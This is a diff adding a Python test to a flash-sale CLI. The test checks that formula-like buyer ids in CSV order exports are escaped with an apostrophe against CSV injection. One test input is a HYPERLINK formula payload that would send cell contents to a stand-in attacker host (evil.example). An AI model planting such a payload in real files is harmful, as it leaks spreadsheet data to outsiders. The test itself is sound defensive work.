@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import shlex
 import uuid
@@ -386,6 +388,27 @@ def test_create_with_a_key_is_once_and_orders_export_as_csv(
     assert listed.code == 0 and "CONFIRMED" in listed.out
     bad = cli("sale", "orders", sale_id, "--state", "shipped")
     assert bad.code == 2 and bad.err.startswith("flashsale: error: state")
+
+
+def test_an_export_opened_in_a_spreadsheet_runs_no_buyer_id_as_a_formula(
+    cli: Cli, db: Db, tmp_path: Path
+) -> None:
+    """Buyer ids are the storefront's (any printable ASCII): one written as
+    ``=HYPERLINK(...)`` was a live formula in the merchandiser's spreadsheet (CSV injection).
+    A buyer id that starts like a formula is exported behind an apostrophe, as OWASP
+    advises; the others as they are."""
+    sale_id = create(cli, tmp_path)
+    ids = ['=HYPERLINK("http://evil.example/?"&A1,"see")', "+1+1", "-2+3", "@SUM(A1)", "b-1=2"]
+    for n, buyer in enumerate(ids):
+        db.execute(
+            "INSERT INTO orders (id, sale_id, sku, buyer_id, quantity, amount, currency,"
+            " admission_id, payment_token, state) VALUES ($1, $2, 'SNK-42', $3, 1, 12900, 'EUR',"
+            " 'adm', 'tok', 'CONFIRMED')", f"{sale_id}~SNK-42~r-{n}", sale_id, buyer,
+        )  # fmt: skip
+    exported = cli("sale", "orders", sale_id, "--csv")
+    assert exported.code == 0, exported.err
+    rows = list(csv.DictReader(io.StringIO(exported.out)))
+    assert [r["buyer_id"] for r in rows] == [f"'{b}" for b in ids[:4]] + ["b-1=2"], rows
 
 
 def test_an_export_whose_reader_went_away_fails_and_gives_its_connection_back(
